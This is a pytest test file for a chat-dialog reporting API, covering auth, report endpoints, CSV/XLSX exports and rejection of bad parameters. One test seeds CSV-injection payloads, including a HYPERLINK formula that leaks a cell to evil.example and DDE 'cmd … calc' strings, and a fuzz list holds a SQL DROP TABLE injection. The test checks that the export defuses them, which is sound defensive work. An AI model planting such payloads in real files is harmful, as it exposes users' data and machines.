"""The JSON API over a real server on a free port: auth, every endpoint, 400s for bad parameters, never a 500."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp
import openpyxl
import pytest

from reports.export import EXPORT_FIELDS, spreadsheet_cell
from reports.i18n import field_label, value_label, word
from reports.xlsx import XLSX_TYPE
from tests.seed import PRICE, seed_dialog, seed_report_fixture, utc
from tests.test_team_reports import seed_team_day

TOKEN = "s3cret-api-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
# Every endpoint that takes the reports' period and filters (a new filter is tried on each).
FILTERED_ENDPOINTS = [
    "/api/reports/summary",
    "/api/reports/channels",
    "/api/reports/pages",
    "/api/reports/drilldown",
    "/api/reports/dynamics",
    "/api/reports/compare",
    "/api/reports/team",
    "/api/dialogs",
    "/api/dialogs.csv",
    "/api/dialogs.xlsx",
]
OPENAPI = Path(__file__).parents[1] / "webhooks" / "openapi.yaml"


@pytest.fixture
async def api(start_server: Callable[..., Any]) -> Any:
    server = await start_server(api_token=TOKEN)
    server.ids = await seed_report_fixture(server.store)
    return server


async def get(http: aiohttp.ClientSession, url: str, **params: str) -> tuple[int, Any]:
    async with http.get(url, params=params, headers=AUTH) as response:
        body = await response.json() if response.content_type == "application/json" else await response.text()
        return response.status, body


async def test_no_token_configured_means_the_api_is_off(start_server: Callable[..., Any], http: Any) -> None:
    server = await start_server()
    async with http.get(server.url + "/api/reports/summary", headers=AUTH) as response:
        assert response.status == 403
        assert "CHATTRACK_API_TOKEN" in (await response.json())["error"]


@pytest.mark.parametrize(
    "header",
    [None, "Bearer wrong-token", f"Basic {TOKEN}", f"Bearer {TOKEN}x", "Bearer", f"bearer  {TOKEN[:-1]}"],
)
async def test_401_without_the_right_token(api: Any, http: aiohttp.ClientSession, header: str | None) -> None:
    headers = {} if header is None else {"Authorization": header}
    paths = ["/api/reports/summary", "/api/dialogs", "/api/dialogs.csv", "/api/dialogs.xlsx"]
    for path in [*paths, f"/api/dialogs/{api.ids['d1']}"]:
        async with http.get(api.url + path, headers=headers) as response:
            assert response.status == 401, path
            assert response.headers["WWW-Authenticate"].startswith("Bearer")
            assert "dialogs" not in await response.text()


async def test_the_token_scheme_is_case_insensitive(api: Any, http: aiohttp.ClientSession) -> None:
    async with http.get(api.url + "/api/reports/summary", headers={"Authorization": f"bearer {TOKEN}"}) as response:
        assert response.status == 200


async def test_summary(api: Any, http: aiohttp.ClientSession) -> None:
    status, body = await get(http, api.url + "/api/reports/summary", period="2026-11")
    assert status == 200
    assert (body["dialogs"], body["new"], body["repeat"]) == (6, 5, 1)
    assert body["new_share"] == pytest.approx(5 / 6)
    assert body["period"] == {
        "label": "2026-11-01..2026-11-30",
        "first": "2026-11-01",
        "last": "2026-11-30",
        "start": "2026-10-31T21:00:00+00:00",
        "end": "2026-11-30T21:00:00+00:00",
        "running": False,
        "timezone": "Europe/Moscow",
    }
    status, body = await get(http, api.url + "/api/reports/summary", period="2026-11", tag="sale")
    assert (body["dialogs"], body["filters"]) == (2, {"tag": "sale"})
    status, body = await get(http, api.url + "/api/reports/summary", period="2025")
    assert body["dialogs"] == 0 and body["new_share"] is None


async def test_channels_pages_and_drilldown(api: Any, http: aiohttp.ClientSession) -> None:
    status, body = await get(http, api.url + "/api/reports/channels", period="2026-11", limit="2")
    assert status == 200
    assert [(r["value"], r["dialogs"]) for r in body["rows"]] == [("paid_search", 2), ("direct", 1)]
    assert body["total"]["dialogs"] == 6 and body["rest"]["dialogs"] == 3
    status, body = await get(http, api.url + "/api/reports/channels", period="2026-11", probable="false")
    assert "unattributed" in [r["value"] for r in body["rows"]]
    status, body = await get(http, api.url + "/api/reports/pages", period="2026-11")
    assert body["by"] == "contact_page" and body["rows"][0] == {
        "value": PRICE,
        "dialogs": 4,
        "new": 4,
        "repeat": 0,
        "share": pytest.approx(4 / 6),
    }
    status, body = await get(http, api.url + "/api/reports/pages", period="2026-11", kind="landing")
    assert body["rows"][0]["value"] is None  # most dialogs came without a known landing page
    status, body = await get(
        http, api.url + "/api/reports/drilldown", period="2026-11-26..2026-12-01", by="source", channel="paid_search"
    )
    assert [(r["value"], r["dialogs"]) for r in body["rows"]] == [("google", 2), ("yandex", 1)]
    assert body["filters"] == {"channel": "paid_search"}


async def test_dynamics(api: Any, http: aiohttp.ClientSession) -> None:
    status, body = await get(http, api.url + "/api/reports/dynamics", period="2026-12-28..2027-01-10", bucket="week")
    assert status == 200
    assert (body["buckets"], body["totals"]) == (["2026-W53", "2027-W01"], [2, 1])
    status, body = await get(http, api.url + "/api/reports/dynamics", period="2026-07-01..2027-03-31", bucket="quarter")
    assert (body["buckets"], body["totals"]) == (["2026-Q3", "2026-Q4", "2027-Q1"], [1, 8, 3])
    status, body = await get(http, api.url + "/api/reports/dynamics", period="2026", bucket="month", top="1")
    assert [s["value"] for s in body["series"]] == ["paid_search", None]
    assert body["series"][1]["other"] is True and sum(body["series"][1]["points"]) == 6


async def test_compare(api: Any, http: aiohttp.ClientSession) -> None:
    status, body = await get(http, api.url + "/api/reports/compare", a="2026-W48", b="2026-W49")
    assert status == 200
    assert body["dialogs"] == {"a": 5, "b": 2, "delta": 3, "ratio": 1.5}
    assert body["rows"][0] == {"value": "paid_search", "a": 2, "b": 1, "delta": 1, "ratio": 1.0}
    assert body["rows"][1]["ratio"] is None
    status, body = await get(http, api.url + "/api/reports/compare", a="2026-W49", b="previous")
    assert body["b"]["label"] == "2026-11-23..2026-11-29" and body["dialogs"]["b"] == 5
    status, body = await get(http, api.url + "/api/reports/compare", a="2026-12", b="year_ago")
    assert body["b"]["label"] == "2025-12-01..2025-12-31" and body["dialogs"] == {
        "a": 1,
        "b": 0,
        "delta": 1,
        "ratio": None,
    }


async def test_dialogs_pages_through_a_period(api: Any, http: aiohttp.ClientSession) -> None:
    got, cursor = [], None
    while True:
        params = {"period": "2026", "limit": "4"} | ({"cursor": cursor} if cursor else {})
        status, body = await get(http, api.url + "/api/dialogs", **params)
        assert status == 200 and len(body["dialogs"]) <= 4
        got += [d["id"] for d in body["dialogs"]]
        cursor = body["next"]
        if cursor is None:
            break
    expected = ["d10", "d11", "d1", "d2", "d3", "d4", "d5", "d6", "d7"]
    assert got == [api.ids[name] for name in expected]


async def test_dialog_card(api: Any, http: aiohttp.ClientSession) -> None:
    status, body = await get(http, api.url + f"/api/dialogs/{api.ids['d3']}")
    assert status == 200
    card = body["card"]
    assert card["started"] == "2026-11-27 13:00" and card["customer"] == "repeat"
    assert card["tags"] == "qualified, sale" and card["campaign"] == "brand"
    assert [h["id"] for h in body["history"]] == [api.ids["d1"]]
    assert body["history"][0]["campaign"] == "black friday"
    assert body["dialog"]["id"] == api.ids["d3"]
    status, body = await get(http, api.url + "/api/dialogs/" + "0" * 32)
    assert status == 404 and body == {"error": "no dialog with this id"}
    status, _ = await get(http, api.url + "/api/dialogs/" + "x" * 300)
    assert status == 404


async def test_csv_export_opens_in_russian_excel_by_default(api: Any, http: aiohttp.ClientSession) -> None:
    """BOM, `;`, Russian headers and values, dates as Russian Excel reads them: what opens right on a double click."""
    async with http.get(api.url + "/api/dialogs.csv", params={"period": "2026-11"}, headers=AUTH) as response:
        assert response.status == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert 'filename="dialogs-2026-11-01..2026-11-30.csv"' in response.headers["Content-Disposition"]
        data = await response.read()
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0].count(";") == len(EXPORT_FIELDS) - 1
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == 6 and rows[0][field_label("ru", "id")] == api.ids["d1"]
    d1, d3 = rows[0], rows[2]
    assert d1[field_label("ru", "started")] == "26.11.2026 23:59"  # local time, the form Russian Excel takes
    assert d1["Клиент"] == "новый" and d3["Клиент"] == "повторный"
    assert d1["Канал"] == value_label("ru", "channel", "paid_search") != "paid_search"
    assert d1["Теги"] == "Целевой" and d3["Теги"] == "Целевой, Продажа"
    assert d1[field_label("ru", "status")] == word("ru", "status_exact")
    assert d1["Кампания"] == "black friday" and d3["Кампания"] == "brand"
    assert d1["Телефон"] == "'+7 916 000-00-01"  # as people write it, and never a formula


async def test_csv_export_in_english_and_for_machines(api: Any, http: aiohttp.ClientSession) -> None:
    params = {"period": "2026-11", "lang": "en"}
    async with http.get(api.url + "/api/dialogs.csv", params=params, headers=AUTH) as response:
        english = list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig")), delimiter=";"))
    assert english[2]["Customer"] == "repeat" and english[0]["Tags"] == "Qualified"
    assert english[0][field_label("en", "started")] == "2026-11-26 23:59"
    params = {"period": "2026-11", "format": "machine"}  # the stable form scripts read
    async with http.get(api.url + "/api/dialogs.csv", params=params, headers=AUTH) as response:
        machine = list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    assert len(machine) == 6 and machine[0]["id"] == api.ids["d1"] and machine[0]["channel"] == "paid_search"
    assert machine[2]["customer"] == "repeat" and machine[2]["tags"] == "qualified, sale"
    assert machine[0]["started"] == "2026-11-26 23:59" and machine[5]["status"] == "probable"
    params = {"period": "2026-11", "format": "machine", "lang": "ru", "sep": "tab"}  # the parameters as before
    async with http.get(api.url + "/api/dialogs.csv", params=params, headers=AUTH) as response:
        labelled = list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig")), delimiter="\t"))
    assert labelled[2]["Клиент"] == "repeat" and labelled[2]["Кампания"] == "brand"


async def test_csv_export_takes_the_reports_filters_and_leaves_spam_out(
    start_server: Callable[..., Any], http: Any
) -> None:
    server = await start_server(api_token=TOKEN)
    await seed_dialog(server.store, utc("2026-11-27 06:00"), source="yandex")
    await seed_dialog(server.store, utc("2026-11-27 07:00"), source="google")
    await seed_dialog(server.store, utc("2026-11-27 08:00"), source="google", tags=["spam"])

    async def sources(**params: str) -> list[str]:
        query = {"period": "2026-11-27", "format": "machine", **params}
        async with http.get(server.url + "/api/dialogs.csv", params=query, headers=AUTH) as response:
            assert response.status == 200
            return [r["source"] for r in csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig")))]

    assert await sources() == ["yandex", "google"]
    assert await sources(spam="include") == ["yandex", "google", "google"]
    assert await sources(source="google", spam="include") == ["google", "google"]
    assert await sources(tag="spam") == ["google"]


async def test_xlsx_export_has_the_same_parameters_as_the_csv(api: Any, http: aiohttp.ClientSession) -> None:
    async with http.get(api.url + "/api/dialogs.xlsx", params={"period": "2026-11"}, headers=AUTH) as response:
        assert response.status == 200
        assert response.content_type == XLSX_TYPE
        assert 'filename="dialogi-2026-11-01..2026-11-30.xlsx"' in response.headers["Content-Disposition"]
        assert response.headers["X-Dialogs-Total"] == response.headers["X-Dialogs-Written"] == "6"
        book = openpyxl.load_workbook(io.BytesIO(await response.read()))
    assert book.sheetnames[0] == "Сводка" and book.sheetnames[-1] == "Диалоги"
    assert book.active is not None and book.active.title == "Диалоги"
    header, *rows = list(book["Диалоги"].iter_rows(values_only=True))
    assert header[:2] == (field_label("ru", "id"), field_label("ru", "started")) and len(rows) == 6
    assert rows[0][1] == datetime(2026, 11, 26, 23, 59)
    params = {"period": "2026-11", "lang": "en", "channel": "paid_search", "sep": "comma"}
    async with http.get(api.url + "/api/dialogs.xlsx", params=params, headers=AUTH) as response:
        assert response.status == 200 and response.headers["X-Dialogs-Total"] == "2"
        book = openpyxl.load_workbook(io.BytesIO(await response.read()))
    assert book.sheetnames[-1] == "Dialogs" and book["Dialogs"].max_row == 1 + 2


async def test_csv_export_neutralises_formulas_in_every_text_cell(start_server: Callable[..., Any], http: Any) -> None:
    """OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading quote, so
    a spreadsheet shows it as text instead of running it. Our own numbers stay numbers."""
    server = await start_server(api_token=TOKEN)
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "text": "@SUM(1+1)*cmd|' /C calc'!A0",
        "campaign": "-2+3+cmd|' /C calc'!A0",
        "source": "+1+1",
        "term": "\t=1+2",
        "content": "\r=1+2",
        "medium": "cpc",  # harmless: kept as it is
    }
    await seed_dialog(
        server.store,
        utc("2026-11-27 06:00"),
        contact="+79161234567",
        name=hostile["name"],
        text=hostile["text"],
        campaign=hostile["campaign"],
        source=hostile["source"],
        term=hostile["term"],
        content=hostile["content"],
        medium=hostile["medium"],
    )
    for sep, delimiter in [("comma", ","), ("semicolon", ";"), ("tab", "\t")]:
        params = {"period": "2026-11-27", "sep": sep, "format": "machine"}
        async with http.get(server.url + "/api/dialogs.csv", params=params, headers=AUTH) as response:
            assert response.status == 200
            text = (await response.read()).decode("utf-8-sig")
        (row,) = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert row["contact_name"] == "'" + hostile["name"]
        assert row["first_message"] == "'" + hostile["text"]
        assert row["campaign"] == "'" + hostile["campaign"]
        assert row["source"] == "'" + hostile["source"]
        for cell in ("term", "content"):  # the card may drop the tab or CR itself (one-line fields)
            assert row[cell] in ("'" + hostile[cell], "'=1+2"), row[cell]
        assert row["medium"] == "cpc"
        # A phone is a formula start too (Excel would read +7916… as a sum and show 7.92E+10): text.
        assert row["contact_phone"] == "'+79161234567"
        assert row["message_count"] == "1"  # a count we wrote stays a number
        assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row.values() if value)
    # The default, for Excel: the same rule under Russian headers, and the phone as people write it.
    async with http.get(server.url + "/api/dialogs.csv", params={"period": "2026-11-27"}, headers=AUTH) as response:
        (row,) = list(
            csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"), newline=""), delimiter=";")
        )
    assert row["Имя"] == "'" + hostile["name"] and row["Кампания"] == "'" + hostile["campaign"]
    assert row["Телефон"] == "'+7 916 123-45-67"
    # Whatever a card keeps of tabs and carriage returns, the export's own rule covers them.
    assert [spreadsheet_cell(v) for v in ("\t=1", "\r=1", "＝1", 42, None)] == ["'\t=1", "'\r=1", "'＝1", 42, ""]


async def test_csv_export_of_many_dialogs_streams_them_all(start_server: Callable[..., Any], http: Any) -> None:
    server = await start_server(api_token=TOKEN)
    for i in range(1203):  # more than two pages of the export
        await seed_dialog(server.store, utc("2026-11-27 06:00") + timedelta(seconds=30 * i))
    async with http.get(server.url + "/api/dialogs.csv", params={"period": "2026-11-27"}, headers=AUTH) as response:
        assert response.status == 200
        lines = (await response.read()).decode("utf-8-sig").splitlines()
    assert len(lines) == 1 + 1203


@pytest.mark.parametrize(
    ("path", "params", "reason"),
    [
        ("/api/reports/summary", {"period": "garbage"}, "unknown period"),
        ("/api/reports/summary", {"period": "2026-02-30"}, "no such date"),
        ("/api/reports/summary", {"channel": "paid_search", "chanel": "x"}, "unknown parameter 'chanel'"),
        ("/api/reports/summary", {"probable": "maybe"}, "probable must be one of"),
        ("/api/reports/channels", {"limit": "0"}, "limit must be a whole number from 1 to 1000"),
        ("/api/reports/channels", {"limit": "ten"}, "limit must be"),
        ("/api/reports/channels", {"limit": "٣"}, "limit must be"),
        ("/api/reports/pages", {"kind": "exit"}, "kind must be one of contact, landing"),
        ("/api/reports/drilldown", {"by": "password"}, "by must be one of"),
        ("/api/reports/dynamics", {"bucket": "hour"}, "bucket must be one of"),
        ("/api/reports/dynamics", {"period": "2000-01-01..2009-12-31", "bucket": "day"}, "more than 800 points"),
        ("/api/reports/compare", {"a": "week", "b": "sometime"}, "unknown period"),
        ("/api/dialogs", {"cursor": "not-a-cursor"}, "bad cursor"),
        ("/api/dialogs", {"limit": "1001"}, "limit must be"),
        ("/api/dialogs.csv", {"lang": "de"}, "lang must be one of ru, en"),
        ("/api/dialogs.csv", {"sep": "pipe"}, "sep must be one of"),
        ("/api/dialogs.csv", {"format": "pdf"}, "format must be one of excel, machine"),
        ("/api/dialogs.csv", {"chanel": "x"}, "unknown parameter 'chanel'"),
        ("/api/dialogs.xlsx", {"lang": "de"}, "lang must be one of ru, en"),
        ("/api/dialogs.xlsx", {"period": "garbage"}, "unknown period"),
        ("/api/reports/summary", {"period": "x" * 201}, "longer than 200"),
    ],
)
async def test_bad_parameters_are_400_with_a_reason(
    api: Any, http: aiohttp.ClientSession, path: str, params: dict[str, str], reason: str
) -> None:
    status, body = await get(http, api.url + path, **params)
    assert status == 400
    assert reason in body["error"]


async def test_a_repeated_parameter_is_400(api: Any, http: aiohttp.ClientSession) -> None:
    async with http.get(api.url + "/api/reports/summary?period=week&period=month", headers=AUTH) as response:
        assert response.status == 400 and "more than once" in (await response.json())["error"]


NASTY = ["", " ", "\x00", "%", "'; DROP TABLE dialogs; --", "9" * 200, "２０２６", "٣d", "..", "-1", "1e3",
         "null", "💥", "2026-W00", "2026-W54", "31.02.2026", "2026-11-01..", "<b>", "true", "0", "2026-Q0",
         "\u202e"]  # fmt: skip
PARAMS = {
    "/api/reports/summary": ["period", "probable", "channel", "tag", "status", "without_tag", "spam"],
    "/api/reports/channels": ["period", "limit", "without_tag", "spam"],
    "/api/reports/pages": ["kind", "limit", "without_tag", "spam"],
    "/api/reports/drilldown": ["by", "source", "campaign", "without_tag", "spam"],
    "/api/reports/dynamics": ["bucket", "by", "top", "period", "without_tag", "spam"],
    "/api/reports/compare": ["a", "b", "by", "limit", "without_tag", "spam"],
    "/api/reports/team": ["period", "probable", "channel", "tag", "without_tag", "spam"],
    "/api/dialogs": ["period", "limit", "cursor", "tag", "without_tag", "spam"],
    "/api/dialogs.csv": ["period", "lang", "sep", "format", "channel", "tag", "without_tag", "spam"],
    "/api/dialogs.xlsx": ["period", "lang", "sep", "format", "channel", "tag", "without_tag", "spam"],
}


async def test_no_parameter_value_makes_a_500(api: Any, http: aiohttp.ClientSession) -> None:
    for path, names in PARAMS.items():
        for name in names:
            for value in NASTY:
                async with http.get(api.url + path, params={name: value}, headers=AUTH) as response:
                    assert response.status in (200, 400), (path, name, value, response.status)
                    if response.status == 400:
                        assert (await response.json())["error"]
    for dialog_id in ["%00", "%2F..%2F", "💥", "'", "a" * 64]:
        async with http.get(api.url + "/api/dialogs/" + dialog_id, headers=AUTH) as response:
            assert response.status == 404, dialog_id


async def test_openapi_document_is_served_and_covers_every_route(api: Any, http: aiohttp.ClientSession) -> None:
    async with http.get(api.url + "/api/openapi.yaml") as response:  # no token needed
        assert response.status == 200 and response.content_type == "application/yaml"
        text = await response.text()
    assert text == OPENAPI.read_text() and text.startswith("openapi: 3.")
    documented = set(re.findall(r"^  (/api/\S+):$", text, re.MULTILINE))
    served = {
        resource.canonical.replace("{dialog_id}", "{dialog_id}")
        for resource in api.app.router.resources()
        if resource.canonical.startswith("/api/")
    }
    assert documented == served
    for path, names in PARAMS.items():
        block = text.split(f"\n  {path}:\n", 1)[1].split("\n  /api/", 1)[0]
        for name in names:
            assert f"name: {name}\n" in block or f'parameters/{name}"' in block, (path, name)
    for reference in set(re.findall(r'"#/components/(\w+)/(\w+)"', text)):
        section, name = reference
        assert re.search(rf"^  {section}:\n(?:.*\n)*?    {name}:", text, re.MULTILINE), reference


async def test_team_report(start_server: Callable[..., Any], http: aiohttp.ClientSession) -> None:
    """Rows per person and per channel with the figures in seconds; the server's clock is now, long after
    Thursday, so both unanswered dialogs are late after 15 minutes and after an hour."""
    server = await start_server(api_token=TOKEN)
    await seed_team_day(server.store)

    status, body = await get(http, server.url + "/api/reports/team", period="2026-11-26")
    _, spam = await get(http, server.url + "/api/reports/team", period="2026-11-26", tag="spam")
    bad, error = await get(http, server.url + "/api/reports/team", period="2026-11-26", by="channel")

    assert status == 200 and body["period"]["label"] == "2026-11-26"
    assert (body["without_tags"], body["left_out"], body["cut"]) == (["spam"], 1, False)
    assert body["total"] == {
        "dialogs": 6,
        "taken": 5,
        "answered": 3,
        "unanswered": 2,
        "unknown": 1,
        "answered_share": 0.6,
        "median_first_response_seconds": 600,
        "p90_first_response_seconds": 1560,  # 600 + 0.8 × (1800 − 600)
        "unanswered_after_900s": 3,  # 1800 s, and the two never answered
        "unanswered_after_3600s": 2,
    }
    people = [(p["user_id"], p["name"], p["dialogs"], p["median_first_response_seconds"]) for p in body["people"]]
    assert people == [(501, "Мария", 3, 360), (111, "Ирина", 2, 1800), (None, None, 1, None)]
    assert body["people"][0]["p90_first_response_seconds"] == 552 and body["people"][0]["unknown"] == 1
    channels = [(c["channel"], c["answered"], c["unanswered"], c["unknown"]) for c in body["channels"]]
    assert channels == [("direct", 0, 1, 1), ("organic_search", 1, 1, 0), ("paid_search", 2, 0, 0)]
    assert spam["total"]["dialogs"] == 1 and spam["total"]["median_first_response_seconds"] == 60
    assert bad == 400 and "by" in error["error"]


async def test_exports_have_the_team_columns(start_server: Callable[..., Any], http: aiohttp.ClientSession) -> None:
    server = await start_server(api_token=TOKEN)
    ids = await seed_team_day(server.store)

    async with http.get(server.url + "/api/dialogs.csv", params={"period": "2026-11-26"}, headers=AUTH) as response:
        people = {r[field_label("ru", "id")]: r for r in csv.DictReader(io.StringIO(
            (await response.read()).decode("utf-8-sig")), delimiter=";")}  # fmt: skip
    params = {"period": "2026-11-26", "format": "machine"}
    async with http.get(server.url + "/api/dialogs.csv", params=params, headers=AUTH) as response:
        machine = {r["id"]: r for r in csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig")))}

    d1, d4, d6 = people[ids["d1"]], people[ids["d4"]], people[ids["d6"]]
    assert (d1["Кто взял"], d1["Когда взяли"], d1["Когда ответили"]) == (
        "Мария",
        "26.11.2026 10:01",
        "26.11.2026 10:02",
    )
    assert (d1["Первый ответ, мин"], d1["Ответ"]) == ("2", "ответили")
    assert (d4["Кто взял"], d4["Первый ответ, мин"], d4["Ответ"]) == ("Ирина", "", "без ответа")
    assert d6["Ответ"] == "неизвестно"
    m1 = machine[ids["d1"]]
    assert (m1["taken_by"], m1["taken_at"], m1["answered_at"]) == ("Мария", "2026-11-26 10:01", "2026-11-26 10:02")
    assert (m1["first_response_minutes"], m1["answer_state"]) == ("2", "answered")
    assert machine[ids["d6"]]["answer_state"] == "unknown" and machine[ids["d5"]]["answer_state"] == "unanswered"
